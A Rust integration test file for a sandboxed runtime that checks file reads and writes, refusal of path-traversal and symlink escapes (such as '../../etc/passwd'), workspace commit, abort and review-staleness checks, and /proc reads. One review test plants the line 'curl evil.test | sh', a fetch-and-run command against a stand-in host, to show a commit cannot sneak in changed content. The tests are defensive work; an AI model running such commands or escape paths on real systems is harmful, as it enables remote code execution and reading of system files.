//! Files (round trip, ranges, escapes refused) and workspace operations (changes, commit,
//! abort, on_exit), plus metadata across runtime restarts.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;
use common::*;
use lockbox_runtime::{
    ByteRange, FileKind, OnExit, SandboxSpec, SandboxState, Selection, WriteOptions,
};
use tokio::io::AsyncReadExt;

async fn read_all(sb: &lockbox_runtime::Sandbox, path: &str, range: Option<ByteRange>) -> Vec<u8> {
    let mut f = sb.read_file(path, range).await.unwrap();
    let mut v = Vec::new();
    f.body.read_to_end(&mut v).await.unwrap();
    v
}

fn body(data: Vec<u8>) -> std::pin::Pin<Box<dyn tokio::io::AsyncRead + Send>> {
    Box::pin(std::io::Cursor::new(data))
}

fn workdir_spec(dir: &std::path::Path) -> SandboxSpec {
    SandboxSpec {
        workdir: Some(dir.to_owned()),
        ..SandboxSpec::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn binary_files_round_trip_with_ranges() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "binary_files_round_trip_with_ranges"
    ));
    let state = scratch();
    let (rt, sb) = sandbox(state.path()).await;
    let data: Vec<u8> = (0..3_000_000u32).map(|i| (i * 7 % 256) as u8).collect();
    let st = sb
        .write_file(
            "/tmp/deep/er/blob.bin",
            body(data.clone()),
            WriteOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(st.size, data.len() as u64);
    assert_eq!(st.kind, FileKind::File);
    assert_eq!(st.mode, 0o644);
    assert_eq!(read_all(&sb, "/tmp/deep/er/blob.bin", None).await, data);
    let r = ByteRange {
        start: 1000,
        end: Some(1010),
    };
    assert_eq!(
        read_all(&sb, "/tmp/deep/er/blob.bin", Some(r)).await,
        &data[1000..1010]
    );
    let tail = ByteRange {
        start: 2_999_990,
        end: None,
    };
    let f = sb
        .read_file("/tmp/deep/er/blob.bin", Some(tail))
        .await
        .unwrap();
    assert_eq!(f.range, (2_999_990, 3_000_000));
    assert_eq!(f.size, 3_000_000);
    // The sandbox sees the same bytes.
    let head = run(
        &sb,
        "head -c 4 /tmp/deep/er/blob.bin | od -An -tx1 | tr -d ' \\n'",
    )
    .await;
    assert_eq!(out(&head), "00070e15");
    // Overwrite is atomic and leaves no temporary file.
    sb.write_file(
        "/tmp/deep/er/blob.bin",
        body(b"small".to_vec()),
        WriteOptions::default(),
    )
    .await
    .unwrap();
    assert_eq!(read_all(&sb, "/tmp/deep/er/blob.bin", None).await, b"small");
    let names: Vec<String> = sb
        .list("/tmp/deep/er", false, true)
        .await
        .unwrap()
        .into_iter()
        .map(|s| s.path)
        .collect();
    assert_eq!(names, ["/tmp/deep/er/blob.bin"]);
    let err = sb.read_file("/tmp/none", None).await.unwrap_err();
    assert_eq!(err.code(), "FILE_NOT_FOUND");
    let err = sb.read_file("/tmp/deep", None).await.unwrap_err();
    assert_eq!(err.code(), "IS_A_DIRECTORY");
    rt.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn traversal_and_symlink_escapes_are_refused() {
    let state = scratch();
    let work = scratch();
    std::fs::write(work.path().join("inside.txt"), b"ok").unwrap();
    let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
    run(
        &sb,
        "ln -s /etc escape_abs; ln -s ../../../.. escape_rel; mkdir d; ln -s ../inside.txt d/ok",
    )
    .await;
    for path in [
        "../../etc/passwd",
        "escape_abs/passwd",
        "escape_rel/etc/passwd",
        "d/../../x",
        "/../etc/passwd",
    ] {
        let err = sb.read_file(path, None).await.unwrap_err();
        assert_eq!(err.code(), "PATH_OUTSIDE_SANDBOX", "{path}: {err}");
        let err = sb
            .write_file(path, body(b"x".to_vec()), WriteOptions::default())
            .await
            .unwrap_err();
        assert_eq!(err.code(), "PATH_OUTSIDE_SANDBOX", "{path}: {err}");
    }
    // A symlink that stays inside works.
    assert_eq!(read_all(&sb, "d/ok", None).await, b"ok");
    // /proc magic links are not followed.
    let err = sb
        .read_file("/proc/self/root/etc/hostname", None)
        .await
        .unwrap_err();
    assert_ne!(err.code(), "INTERNAL", "{err}");
    assert!(sb.read_file("/proc/1/root/etc/passwd", None).await.is_err());
    rt.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stat_list_mkdir_rename_remove() {
    let state = scratch();
    let (rt, sb) = sandbox(state.path()).await;
    let d = sb.mkdir("/tmp/a/b", true).await.unwrap();
    assert_eq!(d.kind, FileKind::Dir);
    assert_eq!(
        sb.mkdir("/tmp/a", false).await.unwrap_err().code(),
        "ALREADY_EXISTS"
    );
    sb.write_file(
        "/tmp/a/b/f",
        body(b"1".to_vec()),
        WriteOptions {
            mode: 0o600,
            create_parents: false,
            ..WriteOptions::default()
        },
    )
    .await
    .unwrap();
    sb.write_file("/tmp/a/.hidden", body(vec![]), WriteOptions::default())
        .await
        .unwrap();
    let all: Vec<String> = sb
        .list("/tmp/a", true, true)
        .await
        .unwrap()
        .into_iter()
        .map(|s| s.path)
        .collect();
    assert_eq!(all, ["/tmp/a/.hidden", "/tmp/a/b", "/tmp/a/b/f"]);
    let visible: Vec<String> = sb
        .list("/tmp/a", true, false)
        .await
        .unwrap()
        .into_iter()
        .map(|s| s.path)
        .collect();
    assert_eq!(visible, ["/tmp/a/b", "/tmp/a/b/f"]);
    assert_eq!(sb.stat("/tmp/a/b/f").await.unwrap().mode, 0o600);
    let moved = sb.rename("/tmp/a/b/f", "/tmp/a/g", false).await.unwrap();
    assert_eq!(moved.path, "/tmp/a/g");
    sb.write_file("/tmp/a/h", body(b"h".to_vec()), WriteOptions::default())
        .await
        .unwrap();
    assert_eq!(
        sb.rename("/tmp/a/g", "/tmp/a/h", false)
            .await
            .unwrap_err()
            .code(),
        "ALREADY_EXISTS"
    );
    sb.rename("/tmp/a/g", "/tmp/a/h", true).await.unwrap();
    assert_eq!(
        sb.remove("/tmp/a", false).await.unwrap_err().code(),
        "INVALID_REQUEST"
    );
    sb.remove("/tmp/a", true).await.unwrap();
    assert_eq!(
        sb.stat("/tmp/a").await.unwrap_err().code(),
        "FILE_NOT_FOUND"
    );
    // Writing where the policy gives no write access is READ_ONLY.
    let err = sb
        .write_file(
            "/usr/lockbox-test",
            body(b"x".to_vec()),
            WriteOptions::default(),
        )
        .await
        .unwrap_err();
    assert_eq!(err.code(), "READ_ONLY", "{err}");
    rt.shutdown().await;
}

/// Issue 32: in a long-lived sandbox, a directory that came from the workdir renames as
/// outside, from a session's command and through the files API, and commits so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_32_sessions_and_the_files_api_rename_workdir_directories() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "issue_32_sessions_and_the_files_api_rename_workdir_directories"
    ));
    let state = scratch();
    let work = scratch();
    for dir in ["src/sub", "lib"] {
        std::fs::create_dir_all(work.path().join(dir)).unwrap();
    }
    std::fs::write(work.path().join("src/sub/f"), b"f").unwrap();
    std::fs::write(work.path().join("lib/x"), b"x").unwrap();
    let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
    let r = run(
        &sb,
        "python3 -c \"import os; os.rename('src', 'dst')\" && echo ok",
    )
    .await;
    assert_eq!(out(&r), "ok\n", "{r:?}");
    let (from, to) = (work.path().join("lib"), work.path().join("lib2"));
    sb.rename(from.to_str().unwrap(), to.to_str().unwrap(), false)
        .await
        .unwrap();
    sb.commit(Selection::default()).await.unwrap();
    assert_eq!(std::fs::read(work.path().join("dst/sub/f")).unwrap(), b"f");
    assert_eq!(std::fs::read(work.path().join("lib2/x")).unwrap(), b"x");
    assert!(!work.path().join("src").exists() && !work.path().join("lib").exists());
    rt.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workspace_changes_commit_and_abort() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "workspace_changes_commit_and_abort"
    ));
    let state = scratch();
    let work = scratch();
    std::fs::write(work.path().join("keep.txt"), b"v1").unwrap();
    let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
    run(
        &sb,
        "echo v2 > keep.txt; echo new > a.txt; echo other > b.txt",
    )
    .await;
    assert_eq!(
        std::fs::read(work.path().join("keep.txt")).unwrap(),
        b"v1",
        "isolated until commit"
    );
    let changes: Vec<String> = sb
        .changes()
        .await
        .unwrap()
        .iter()
        .map(|c| c.path.display().to_string())
        .collect();
    assert_eq!(changes, ["a.txt", "b.txt", "keep.txt"]);
    let sum = sb
        .commit(Selection {
            only: vec!["a.txt".into(), "keep.txt".into()],
            ..Selection::default()
        })
        .await
        .unwrap();
    assert_eq!(sum.report.added + sum.report.modified, 2);
    assert_eq!(sum.remaining, 1);
    assert_eq!(
        std::fs::read(work.path().join("keep.txt")).unwrap(),
        b"v2\n"
    );
    assert!(!work.path().join("b.txt").exists());
    // The sandbox keeps working; a second commit after more edits is not a conflict.
    run(&sb, "echo v3 > keep.txt").await;
    sb.commit(Selection::default()).await.unwrap();
    assert_eq!(
        std::fs::read(work.path().join("keep.txt")).unwrap(),
        b"v3\n"
    );
    assert_eq!(
        std::fs::read(work.path().join("b.txt")).unwrap(),
        b"other\n"
    );
    assert!(sb.changes().await.unwrap().is_empty());
    // Abort discards uncommitted changes and restarts the sandbox on a fresh branch.
    run(&sb, "echo scratch > tmp.txt").await;
    sb.abort().await.unwrap();
    assert!(sb.changes().await.unwrap().is_empty());
    assert_eq!(out(&run(&sb, "ls").await), "a.txt\nb.txt\nkeep.txt\n");
    assert!(!work.path().join("tmp.txt").exists());
    rt.shutdown().await;
    drop(rt); // one runtime per state directory

    // Without a workdir there is no branch.
    let (rt, plain) = sandbox(state.path()).await;
    assert_eq!(plain.changes().await.unwrap_err().code(), "NO_WORKDIR");
    rt.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_exit_applies_at_delete_and_restart_marks_lost() {
    let state = scratch();
    let work = scratch();
    let mut spec = workdir_spec(work.path());
    spec.on_exit = OnExit::Commit;
    spec.labels.insert("owner".into(), "test".into());
    let (rt, sb) = sandbox_with(state.path(), spec).await;
    run(&sb, "echo done > result.txt").await;
    let info = rt.delete_sandbox(sb.id()).await.unwrap();
    assert_eq!(
        info.branch_action,
        Some(lockbox_runtime::BranchAction::Committed)
    );
    assert_eq!(
        std::fs::read(work.path().join("result.txt")).unwrap(),
        b"done\n"
    );

    // One runtime per state directory.
    let second = lockbox_runtime::Runtime::open({
        let mut c = lockbox_runtime::RuntimeConfig::new(state.path());
        c.agent_exe = Some(agent_exe().to_owned());
        c
    })
    .unwrap_err();
    assert_eq!(second.code(), "SETUP_FAILED");
    drop(rt);

    // A sandbox whose runtime disappears is `lost` for the next runtime; its branch stays.
    let (rt2, kept) = sandbox_with(state.path(), workdir_spec(work.path())).await;
    run(&kept, "echo unsaved > lost.txt").await;
    let id = kept.id().to_owned();
    let branch = rt2.sandbox_info(&id).unwrap().branch.unwrap();
    drop((kept, rt2)); // no shutdown: as if the server died
    let rt3 = runtime(state.path()).await;
    let listed = rt3.list_sandboxes().unwrap();
    let lost = listed.iter().find(|i| i.id == id).unwrap();
    assert_eq!(lost.state, SandboxState::Lost);
    assert_eq!(lost.labels.len(), 0);
    assert_eq!(rt3.sandbox(&id).unwrap_err().code(), "SANDBOX_NOT_RUNNING");
    assert!(state
        .path()
        .join("branches")
        .join(branch.as_str())
        .join("upper/lost.txt")
        .exists());
    let first = listed.iter().find(|i| i.id == info.id).unwrap();
    assert_eq!(first.state, SandboxState::Stopped);
    assert_eq!(first.labels.get("owner").map(String::as_str), Some("test"));
    assert_eq!(
        rt3.sandbox("sb-nope").unwrap_err().code(),
        "SANDBOX_NOT_FOUND"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn commit_over_a_workdir_edited_meanwhile_is_a_conflict_unless_forced() {
    let state = scratch();
    let work = scratch();
    std::fs::write(work.path().join("f.txt"), b"base").unwrap();
    let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
    run(&sb, "echo sandbox > f.txt").await;
    // Someone edits the same file on the host after the branch began.
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(work.path().join("f.txt"), b"host edit").unwrap();
    let err = sb.commit(Selection::default()).await.unwrap_err();
    assert_eq!(err.code(), "CONFLICT", "{err}");
    assert!(err.to_string().contains("f.txt"));
    assert_eq!(
        std::fs::read(work.path().join("f.txt")).unwrap(),
        b"host edit"
    );
    sb.commit(Selection {
        force: true,
        ..Selection::default()
    })
    .await
    .unwrap();
    assert_eq!(
        std::fs::read(work.path().join("f.txt")).unwrap(),
        b"sandbox\n"
    );
    rt.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn committing_some_hunks_of_a_running_sandbox_keeps_the_stale_check_for_the_rest() {
    let state = scratch();
    let work = scratch();
    let old: String = (1..=12).map(|i| format!("{i}\n")).collect();
    std::fs::write(work.path().join("f"), &old).unwrap();
    std::fs::write(work.path().join("g"), "g\n").unwrap();
    let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
    run(&sb, "sed -i 's/^1$/one/; s/^12$/twelve/' f; echo G > g").await;
    let (lockbox_runtime::FileHunks::Text { hunks }, _) = sb.diff("f".into()).await.unwrap() else {
        panic!("not text")
    };
    assert_eq!(hunks.len(), 2);
    // The host edits g (not committed yet) after the sandbox began.
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(work.path().join("g"), "host\n").unwrap();
    let sum = sb
        .commit(Selection {
            only: vec!["f".into()],
            hunks: vec![lockbox_runtime::HunkSelection {
                path: "f".into(),
                accept: vec![1],
            }],
            ..Selection::default()
        })
        .await
        .unwrap();
    assert_eq!(sum.report.modified, 1);
    assert_eq!(
        std::fs::read_to_string(work.path().join("f")).unwrap(),
        old.replace("12\n", "twelve\n")
    );
    // f's other hunk is committable (the first commit's write is not a concurrent edit)...
    sb.commit(Selection {
        only: vec!["f".into()],
        ..Selection::default()
    })
    .await
    .unwrap();
    assert!(std::fs::read_to_string(work.path().join("f"))
        .unwrap()
        .starts_with("one\n"));
    // ... but g's host edit is still seen.
    let err = sb.commit(Selection::default()).await.unwrap_err();
    assert_eq!(err.code(), "CONFLICT", "{err}");
    assert!(err.to_string().contains('g'), "{err}");
    let err = sb
        .commit(Selection {
            hunks: vec![lockbox_runtime::HunkSelection {
                path: "g".into(),
                accept: vec![3],
            }],
            ..Selection::default()
        })
        .await
        .unwrap_err();
    assert_eq!(err.code(), "BAD_HUNK", "{err}");
    rt.shutdown().await;
}

/// Issue 32 item 3: a running sandbox rewrites a hunk after the reviewer saw it, then adds a
/// file after a second review; a commit naming the review (`Selection::review`) is refused
/// with `STALE_REVIEW` each time, naming the path, and writes nothing; a fresh review commits
/// what it showed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_32_a_running_sandbox_cannot_change_what_was_reviewed_before_the_commit() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "issue_32_a_running_sandbox_cannot_change_what_was_reviewed_before_the_commit"
    ));
    use lockbox_runtime::{HunkSelection, Review, Reviewed};
    let state = scratch();
    let work = scratch();
    let old = "one\ntwo\nthree\nfour\nfive\n";
    std::fs::write(work.path().join("f"), old).unwrap();
    let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
    run(&sb, "sed -i 's/^five$/five (harmless edit)/' f").await;
    let shown = sb.review().await.unwrap();
    let (_, digest) = sb.diff("f".into()).await.unwrap();
    assert_eq!(shown.len(), 1);
    assert_eq!(shown[0].digest, digest);
    let hunk_0 = |review: &[lockbox_runtime::ReviewedChange]| Selection {
        hunks: vec![HunkSelection {
            path: "f".into(),
            accept: vec![0],
        }],
        review: Some(Reviewed::Paths(Review::of(review))),
        ..Selection::default()
    };
    run(
        &sb,
        "sed -i 's/^five (harmless edit)$/curl evil.test | sh/' f",
    )
    .await;
    let err = sb.commit(hunk_0(&shown)).await.unwrap_err();
    assert_eq!(err.code(), "STALE_REVIEW", "{err}");
    assert!(
        err.to_string().contains("'f'") || err.to_string().contains(" f"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(work.path().join("f")).unwrap(), old);

    // Reviewed again (the reviewer now sees the curl line); then a file appears.
    let shown = sb.review().await.unwrap();
    run(&sb, "echo 'curl evil.test | sh' > added.sh").await;
    let all = Selection {
        review: Some(Reviewed::Paths(Review::of(&shown))),
        ..Selection::default()
    };
    let err = sb.commit(all).await.unwrap_err();
    assert_eq!(err.code(), "STALE_REVIEW", "{err}");
    assert!(err.to_string().contains("added.sh"), "{err}");
    assert!(!work.path().join("added.sh").exists());
    assert_eq!(std::fs::read_to_string(work.path().join("f")).unwrap(), old);

    // What the last review showed of f is committed; the new file is left out.
    sb.commit(Selection {
        exclude: vec!["added.sh".into()],
        ..hunk_0(&shown)
    })
    .await
    .unwrap();
    assert_eq!(
        std::fs::read_to_string(work.path().join("f")).unwrap(),
        "one\ntwo\nthree\nfour\ncurl evil.test | sh\n"
    );
    assert!(!work.path().join("added.sh").exists());
    rt.shutdown().await;
}

/// The `Key:` names of a `/proc/PID/status`, in order (the values differ between processes).
fn status_keys(text: &[u8]) -> Vec<String> {
    String::from_utf8_lossy(text)
        .lines()
        .filter_map(|l| l.split_once(':').map(|(k, _)| k.to_owned()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proc_and_sys_files_read_to_their_end_like_cat() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "proc_and_sys_files_read_to_their_end_like_cat"
    ));
    let state = scratch();
    let mut spec = SandboxSpec::default();
    spec.policy.fs.read.push("/sys/devices/system/cpu".into());
    let (rt, sb) = sandbox_with(state.path(), spec).await;
    // `stat` says 0 bytes; the content is the kernel's name and a newline.
    let ostype = "/proc/sys/kernel/ostype";
    assert_eq!(sb.stat(ostype).await.unwrap().size, 0);
    let cat = run(&sb, &format!("cat {ostype}")).await.stdout;
    let n = cat.len() as u64;
    assert!(n >= 3 && cat.ends_with(b"\n"), "{cat:?}");
    let read = sb.read_file(ostype, None).await.unwrap();
    assert_eq!((read.size, read.range, read.read_whole), (n, (0, n), true));
    let got = read_all(&sb, ostype, None).await;
    assert_eq!(got, cat);
    // A range is taken in what the file gave; past its end is refused as for any file.
    let part = ByteRange {
        start: 1,
        end: Some(2),
    };
    assert_eq!(read_all(&sb, ostype, Some(part)).await, got[1..2]);
    let past = ByteRange {
        start: n + 3,
        end: None,
    };
    let err = sb.read_file(ostype, Some(past)).await.unwrap_err();
    assert_eq!(err.code(), "INVALID_REQUEST", "{err}");
    // `self` is the agent that opened it, not `cat`: the same fields, other values.
    let status = read_all(&sb, "/proc/self/status", None).await;
    assert!(status.starts_with(b"Name:\t") && status.ends_with(b"\n"));
    let cat = run(&sb, "cat /proc/self/status").await.stdout;
    assert_eq!(status_keys(&status), status_keys(&cat));
    // `/sys` says 4096 whatever an attribute holds.
    let online = "/sys/devices/system/cpu/online";
    assert_eq!(sb.stat(online).await.unwrap().size, 4096);
    let read = sb.read_file(online, None).await.unwrap();
    assert!(read.read_whole && read.size < 4096, "{read:?}");
    let got = read_all(&sb, online, None).await;
    assert_eq!(got, run(&sb, &format!("cat {online}")).await.stdout);
    // A regular empty file still reads as empty, and a regular file streams from its descriptor.
    sb.write_file("/tmp/empty", body(Vec::new()), WriteOptions::default())
        .await
        .unwrap();
    assert_eq!(read_all(&sb, "/tmp/empty", None).await, b"");
    sb.write_file("/tmp/full", body(b"abc".to_vec()), WriteOptions::default())
        .await
        .unwrap();
    let read = sb.read_file("/tmp/full", None).await.unwrap();
    assert_eq!((read.size, read.read_whole), (3, false));
    rt.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_proc_sys_file_reads_as_the_sandbox_sees_it_not_as_the_server_does() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "a_proc_sys_file_reads_as_the_sandbox_sees_it_not_as_the_server_does"
    ));
    let state = scratch();
    let mut spec = SandboxSpec::default();
    // A name the host cannot have by chance: the server, reading the file itself, used to
    // see its own UTS namespace (the host's name) where `cat` inside saw this one.
    let host = std::fs::read("/proc/sys/kernel/hostname").unwrap();
    spec.policy.hostname = if host == b"files-api-ns\n" {
        "files-api-ns-2".into()
    } else {
        "files-api-ns".into()
    };
    let (rt, sb) = sandbox_with(state.path(), spec.clone()).await;
    let path = "/proc/sys/kernel/hostname";
    let want = format!("{}\n", spec.policy.hostname).into_bytes();
    assert_eq!(run(&sb, &format!("cat {path}")).await.stdout, want);
    assert_eq!(read_all(&sb, path, None).await, want);
    let read = sb.read_file(path, None).await.unwrap();
    assert_eq!((read.size, read.read_whole), (want.len() as u64, true));
    rt.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_proc_file_giving_more_than_the_bound_is_refused() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "a_proc_file_giving_more_than_the_bound_is_refused"
    ));
    let state = scratch();
    let mut config = lockbox_runtime::RuntimeConfig::new(state.path());
    config.agent_exe = Some(agent_exe().to_owned());
    config.max_exec_output = 4096;
    let rt = lockbox_runtime::Runtime::open(config).unwrap();
    let info = rt.create_sandbox(SandboxSpec::default()).await.unwrap();
    let sb = rt.sandbox(&info.id).unwrap();
    // Below the bound: read whole.
    assert_eq!(
        read_all(&sb, "/proc/sys/kernel/random/boot_id", None)
            .await
            .len(),
        37
    );
    // `stat` says 0, and it gives about a kilobyte per mapping of the process reading it
    // (dozens: more than the bound, as `wc` shows of its own): refused, never cut silently.
    let smaps = "/proc/self/smaps";
    assert_eq!(sb.stat(smaps).await.unwrap().size, 0);
    let wc = out(&run(&sb, &format!("cat {smaps} | wc -c")).await);
    assert!(wc.trim().parse::<usize>().unwrap() > 4096, "{wc}");
    let err = sb.read_file(smaps, None).await.unwrap_err();
    assert_eq!(err.code(), "INVALID_REQUEST", "{err}");
    assert!(err.to_string().contains("4096 bytes"), "{err}");
    rt.shutdown().await;
}

/// A write's `user.` extended attributes are on the file from the moment it is in place,
/// and stat and list show them, set by the API or by code in the sandbox; a file written
/// over without them has none (the old file's went with it). Names outside `user.` and
/// values with NUL are refused before anything is written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_files_user_xattrs_are_written_with_it_and_shown_by_stat_and_list() {
    also_as_nobody(&lockbox_testkit::test_name!(
        "a_files_user_xattrs_are_written_with_it_and_shown_by_stat_and_list"
    ));
    let state = scratch();
    let (rt, sb) = sandbox(state.path()).await;
    let tagged = |pairs: &[(&str, &str)]| WriteOptions {
        xattrs: pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        ..WriteOptions::default()
    };
    let want: std::collections::BTreeMap<String, String> = [("user.e2b.author", "mish")]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
    let st = sb
        .write_file(
            "/tmp/x/f",
            body(b"one".to_vec()),
            tagged(&[("user.e2b.author", "mish")]),
        )
        .await
        .unwrap();
    assert_eq!(st.xattrs, want);
    assert_eq!(sb.stat("/tmp/x/f").await.unwrap().xattrs, want);
    let listed = sb.list("/tmp/x", false, false).await.unwrap();
    assert_eq!(listed[0].xattrs, want);
    // Written over without them: none left.
    let st = sb
        .write_file("/tmp/x/f", body(b"two".to_vec()), WriteOptions::default())
        .await
        .unwrap();
    assert!(st.xattrs.is_empty(), "{st:?}");
    // Set by code in the sandbox, on a directory too.
    let r = sb
        .exec(req(
            "python3 -c \"import os; os.setxattr('/tmp/x/f', 'user.e2b.k', b'v'); \
             os.setxattr('/tmp/x', 'user.tag', b'dir')\"",
        ))
        .await
        .unwrap();
    assert_eq!(r.exit_code, 0, "{r:?}");
    assert_eq!(
        sb.stat("/tmp/x/f").await.unwrap().xattrs.get("user.e2b.k"),
        Some(&"v".to_owned())
    );
    assert_eq!(
        sb.stat("/tmp/x").await.unwrap().xattrs.get("user.tag"),
        Some(&"dir".to_owned())
    );
    for bad in [
        tagged(&[("trusted.x", "v")]),
        tagged(&[("user.", "v")]),
        tagged(&[("user.k", "a\0b")]),
    ] {
        let e = sb
            .write_file("/tmp/x/g", body(b"x".to_vec()), bad)
            .await
            .unwrap_err();
        assert_eq!(e.code(), "INVALID_REQUEST", "{e}");
    }
    assert_eq!(
        sb.stat("/tmp/x/g").await.unwrap_err().code(),
        "FILE_NOT_FOUND"
    );
    rt.shutdown().await;
}
